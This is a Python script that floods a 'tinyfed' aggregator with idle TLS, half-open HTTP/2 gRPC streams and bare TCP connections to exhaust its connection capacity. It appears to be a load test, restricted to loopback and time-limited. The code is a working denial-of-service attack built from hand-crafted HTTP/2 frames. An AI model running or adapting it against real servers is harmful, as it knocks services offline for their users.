#!/usr/bin/python3
"""Connection exhaustion against a tinyfed aggregator, from nobody in particular.

Holds, for --seconds, as many as it can of:
  --idle-tls N     TLS connections that complete the handshake and send nothing
  --half-open N    TLS connections that open --streams HTTP/2 streams each
                   (HEADERS, never a message) and leave them open
  --bare N         TCP connections that never start TLS
Whatever the server closes is opened again. Loopback only; it stops by itself.
Prints one JSON line: how many of each were open at the end, how many the
server closed.

    flood.py --host 127.0.0.1 --port P --idle-tls 1000 --half-open 300 --bare 300 --seconds 60
"""
import argparse
import json
import resource
import socket
import ssl
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    # HPACK "literal header field without indexing, new name" (RFC 7541 6.2.2).
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def headers(host):
    return b"".join(literal(n, v) for n, v in [
        (b":method", b"POST"), (b":scheme", b"https"), (b":path", b"/tinyfed.v1.Aggregator/CheckIn"),
        (b":authority", host.encode()), (b"content-type", b"application/grpc"), (b"te", b"trailers")])


class Flood:
    def __init__(self, args):
        self.args = args
        self.context = ssl.create_default_context()
        self.context.check_hostname = False
        self.context.verify_mode = ssl.CERT_NONE
        self.context.set_alpn_protocols(["h2"])
        self.open = {"idle_tls": [], "half_open": [], "bare": []}
        self.closed_by_server = 0
        self.failed_connects = 0

    def connect(self, kind):
        s = socket.create_connection((self.args.host, self.args.port), timeout=5)
        if kind == "bare":
            s.setblocking(False)
            return s
        t = self.context.wrap_socket(s, server_hostname=self.args.host)
        if kind == "half_open":
            out = PREFACE + frame(0x4, 0, 0)  # empty SETTINGS
            block = headers(self.args.host)
            for i in range(self.args.streams):
                out += frame(0x1, 0x4, 2 * i + 1, block)  # HEADERS, END_HEADERS, no END_STREAM
            t.sendall(out)
        t.setblocking(False)
        return t

    def top_up(self, deadline):
        for kind, want in (("bare", self.args.bare), ("idle_tls", self.args.idle_tls),
                           ("half_open", self.args.half_open)):
            held = self.open[kind]
            while len(held) < want and time.time() < deadline:
                try:
                    held.append(self.connect(kind))
                except (OSError, ssl.SSLError):
                    self.failed_connects += 1
                    break

    def reap(self):
        for kind, held in self.open.items():
            alive = []
            for s in held:
                try:
                    data = s.recv(65536)
                    if data == b"":
                        raise ConnectionResetError
                    alive.append(s)  # the server said something (settings, acks); still open
                except (BlockingIOError, ssl.SSLWantReadError):
                    alive.append(s)
                except (OSError, ssl.SSLError):
                    self.closed_by_server += 1
                    s.close()
            self.open[kind] = alive

    def run(self):
        _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
        end = time.time() + self.args.seconds
        while time.time() < end:
            self.top_up(min(end, time.time() + 1.0))
            self.reap()
            time.sleep(0.2)
        counts = {k: len(v) for k, v in self.open.items()}
        for held in self.open.values():
            for s in held:
                s.close()
        return {"open_at_end": counts, "closed_by_server": self.closed_by_server,
                "failed_connects": self.failed_connects}


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--idle-tls", type=int, default=1000)
    p.add_argument("--half-open", type=int, default=300)
    p.add_argument("--streams", type=int, default=16)
    p.add_argument("--bare", type=int, default=300)
    p.add_argument("--seconds", type=float, default=60)
    args = p.parse_args()
    if not args.host.startswith("127.") and args.host not in ("localhost", "::1"):
        raise SystemExit("flood.py attacks loopback addresses only")
    print(json.dumps(Flood(args).run()))


if __name__ == "__main__":
    main()
